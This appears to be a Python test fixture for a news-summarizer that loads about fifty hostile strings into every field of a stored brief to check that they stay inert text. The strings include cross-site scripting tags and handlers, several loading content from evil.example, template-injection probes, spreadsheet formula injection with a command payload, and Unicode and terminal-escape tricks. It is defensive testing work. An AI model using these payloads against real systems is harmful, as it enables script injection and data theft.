"""150 strings that want to be more than text, and a brief that holds each of them everywhere."""

from summarizer.extraction.summary import Source, Withheld
from summarizer.merging.brief import Brief, Edit
from summarizer.reading.folder import read_bytes
from summarizer.review.standing import Standing, put_standing, standing
from summarizer.store.articles import Incoming, article_id, put_articles
from summarizer.store.briefs import put_version
from summarizer.store.connect import Store
from tests.review.making import EVENT, fill

_EVIL = "https://evil.example"
_BASE = (
    "<script>pwned=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script\n>pwned=1</script\n>",
    "</script><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "]]><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=https://evil.example/p.png>",
    '<img src="x" onerror="pwned=1">',
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/x.svg#a></svg>",
    "<math><mtext><style><img src=x onerror=pwned=1></style></mtext></math>",
    "<iframe src=javascript:pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x</button></form>",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video>",
    "<a href=javascript:pwned=1>x</a>",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "' onmouseover=pwned=1 x='",
    '" autofocus onfocus=pwned=1 x="',
    "` onclick=pwned=1 `",
    f"![x]({_EVIL}/q.png)",
    f"[x](javascript:pwned=1) {_EVIL}",
    "{{ 7 * 7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %n {0.__class__} {who}",
    "=HYPERLINK('https://evil.example')",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "left \u202egnp.exe\u202c right",
    "zero\u200bwidth\u2060joined\ufeff",
    "\u2066isolated\u2069 \u200fmark",
    "tag\U000e0041\U000e0042",
    "\x1b[31mred\x1b[0m \x07",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#x3c;img&#62;",
)
STRINGS = tuple(
    wrapped for base in _BASE for wrapped in (base, f'">{base}', f"Four {base} people were hurt.")
)


def fill_hostile(store: Store) -> Standing:
    """Put a brief into the store that holds every string in every place a text may stand."""
    stands = fill(store)
    content = "\n\n".join(STRINGS).encode()
    article = read_bytes("evil.txt", content, "S3")[0]
    ident = article_id(content, ".txt")
    version = stands.version
    sources = [
        Source.of(article, id=f"S{n}", outlet=text, title=text, file=f"{text}.txt", reason=text)
        for n, text in enumerate(STRINGS, start=3)
    ]
    # Sources that only failed are no witnesses: the ledger of the entries stays what it is.
    sources = [each.model_copy(update={"status": "failed"}) for each in sources]
    brief = _everywhere(version.brief).model_copy(
        update={"sources": [*version.brief.sources, *sources]}
    )
    articles = version.articles | {source.id: ident for source in sources}
    with store.writing() as connection:
        put_articles(connection, [Incoming(article, content, ".txt")])
        made = put_version(
            connection, EVENT, brief, inputs="i", articles=articles, made_by=STRINGS[0]
        )
        put_standing(connection, EVENT, made.id, "draft")
        return standing(connection, EVENT)


def _everywhere(brief: Brief) -> Brief:
    first = brief.fields["facts"][0]
    entries = [
        first.model_copy(update={"id": f"h{n}", "text": text, "said_by": text, "role": text})
        for n, text in enumerate(STRINGS)
    ]
    conflict = brief.conflicts[0]
    side = conflict.sides[1]
    sides = [side.model_copy(update={"text": text, "value": text}) for text in STRINGS]
    edits = [
        Edit(act="edit", entry=f"h{n}", by=text, reason=text, after=text, overruled="weak_support")
        for n, text in enumerate(STRINGS)
    ]
    withheld = [
        Withheld(
            source="S1", field="facts", text=text, reason="weak_support", detail=text, sentences=[1]
        )
        for text in STRINGS
    ]
    return brief.model_copy(
        update={
            "headline": " ".join(STRINGS),
            "fields": brief.fields | {"facts": [*brief.fields["facts"], *entries]},
            "conflicts": [
                conflict.model_copy(
                    update={"sides": [*conflict.sides, *sides], "note": " ".join(STRINGS)}
                )
            ],
            "edits": edits,
            "withheld": withheld,
        }
    )
